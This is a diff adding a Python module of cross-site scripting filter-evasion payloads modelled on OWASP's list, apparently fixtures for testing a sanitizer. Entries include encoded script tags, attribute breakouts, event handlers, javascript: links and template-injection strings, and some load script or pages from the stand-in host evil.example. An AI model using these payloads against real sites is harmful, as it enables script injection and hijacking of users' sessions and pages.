@@ -1,0 +1,120 @@
+"""What people write who want their text to run: the classes of OWASP's filter-evasion list, a few of each.
+
+Each that ran would call `pwned`, open a dialog, or ask for an address of evil.example.
+"""
+
+RUN = "pwned(1)"
+EVENTS = [
+    "onload",
+    "onerror",
+    "onclick",
+    "onfocus",
+    "onmouseover",
+    "onmouseenter",
+    "onpointerenter",
+    "onanimationstart",
+    "ontransitionend",
+    "ontoggle",
+    "onbeforetoggle",
+    "oncontentvisibilityautostatechange",
+    "onscrollend",
+    "onwheel",
+    "oninput",
+    "onbeforeinput",
+    "onpageshow",
+    "onhashchange",
+]
+TAGS = (
+    "img src=x",
+    "svg",
+    "body",
+    "video src=x",
+    "audio src=x",
+    "details open",
+    "input autofocus",
+    "marquee",
+    "iframe",
+)
+SCHEMES = (
+    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "java&#x09;script:{}", "&#106;avascript:{}",
+    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{}", " javascript:{}", "\x01javascript:{}",
+    "vbscript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
+    "livescript:{}", "javascript://%0a{}", "https://evil.example/", "//evil.example/",
+)  # fmt: skip
+
+SCRIPTS = [
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f"<script >{RUN}</script >",
+    f"<script/x>{RUN}</script>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<<script>{RUN};//<</script>",
+    f"<script\n>{RUN}</script\n>",
+    f"<script>{RUN}",
+    "<script src=https://evil.example/x.js></script>",
+    "<script src=//evil.example/x.js>",
+    "<script/src=data:,pwned(1)></script>",
+    f"<script type=module>{RUN}</script>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<math><mtext></mtext><script>{RUN}</script></math>",
+    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
+    f"<template><script>{RUN}</script></template>",
+    f"<!--<script>{RUN}</script>-->",
+    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
+    f"<![CDATA[<script>{RUN}</script>]]>",
+    r"\u003cscript\u003epwned(1)\u003c/script\u003e",
+    "+ADw-script+AD4-pwned(1)+ADw-/script+AD4-",
+    "%3Cscript%3Epwned(1)%3C/script%3E",
+    "&lt;script&gt;pwned(1)&lt;/script&gt;",
+    "＜script＞pwned(1)＜/script＞",
+    "¼script¾pwned(1)¼/script¾",
+    "<script\u2028>pwned(1)</script\u2028>",
+]
+BREAKOUTS = [
+    *(f"{quote}{end}<script>{RUN}</script>" for quote in ('"', "'", "`", "") for end in (">", "/>", "></a>")),
+    *(f"{end}<script>{RUN}</script>" for end in ("</title>", "</textarea>", "</style>", "</script>", "--!>", "]]>")),
+    *(f"{quote} onfocus={RUN} autofocus x={quote}" for quote in ('"', "'", "`")),
+    f'\\";{RUN};//',
+    f"';{RUN};//",
+    f"{{{{constructor.constructor('{RUN}')()}}}}",
+    "{{7*7}}{% raw %}{{ config }}{% endraw %}",
+    f"${{{RUN}}}",
+    f"<a href=x hx-on:click='{RUN}' hx-trigger=load hx-get=//evil.example/>x</a>",
+    "<div hx-get=https://evil.example/ hx-trigger=load></div>",
+    f"<div data-hx-on:htmx:load='{RUN}'></div>",
+]
+HANDLERS = [f"<{tag} {event}={RUN}>" for tag, event in zip(TAGS * 2, EVENTS, strict=True)] + [
+    f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
+    f"<img src=x onerror\n=\n{RUN}>",
+    f"<img/src=x/onerror={RUN}>",
+    f"<img src=x\x0conerror={RUN}>",
+    f"<svg/onload={RUN}//",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><set onbegin={RUN} attributename=x>",
+    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>",
+    "<img src=https://evil.example/x.png>",
+    "<img srcset=https://evil.example/x.png>",
+]
+LINKS = [f'<a href="{scheme.format(RUN)}">x</a>' for scheme in SCHEMES] + [scheme.format(RUN) for scheme in SCHEMES]
+EMBEDDED = [
+    *(f'<iframe src="{scheme.format(RUN)}"></iframe>' for scheme in SCHEMES[:3]),
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    "<object data=https://evil.example/x.swf></object>",
+    "<embed src=https://evil.example/x.svg>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<b style='background:url(https://evil.example/x.png)'>x</b>",
+    f"<b style='width:expression({RUN})'>x</b>",
+    f'<b style="behavior:url(#default#time2)" onbegin={RUN}>x</b>',
+    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
+    f"<button formaction=javascript:{RUN}>x</button>",
+    f"<isindex type=image src=1 onerror={RUN}>",
+    f"<table background=javascript:{RUN}>",
+    "<svg><use href=https://evil.example/x.svg#a /></svg>",
+    f"<xml id=x><b>{RUN}</b></xml>",
+    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></x>",
+]
+PAYLOADS = [*SCRIPTS, *BREAKOUTS, *HANDLERS, *LINKS, *EMBEDDED]
